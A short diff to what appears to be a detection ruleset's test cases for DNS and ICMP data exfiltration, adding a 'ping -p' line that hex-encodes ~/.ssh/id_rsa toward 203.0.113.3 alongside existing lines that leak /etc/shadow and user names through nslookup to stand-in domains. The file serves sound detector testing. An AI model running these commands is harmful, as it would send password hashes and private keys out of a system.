@@ -18,9 +18,11 @@ RULES: tuple[Rule, ...] = (
             'nslookup "$(sudo head -1 /etc/shadow | xxd -p | head -c 60).x.example.net"',
             "nslookup $(whoami).$(hostname).x.io",
             "host `id -un`.leak.example.org",
+            "ping -c 1 -p $(xxd -p -l 16 ~/.ssh/id_rsa) 203.0.113.3",
         ),
         non_matches=(
             "dig example.com",
+            "ping -c1 $(hostname)",
             "dig +short $(hostname -f)",
             "nslookup github.com",
             "host -t mx example.org",
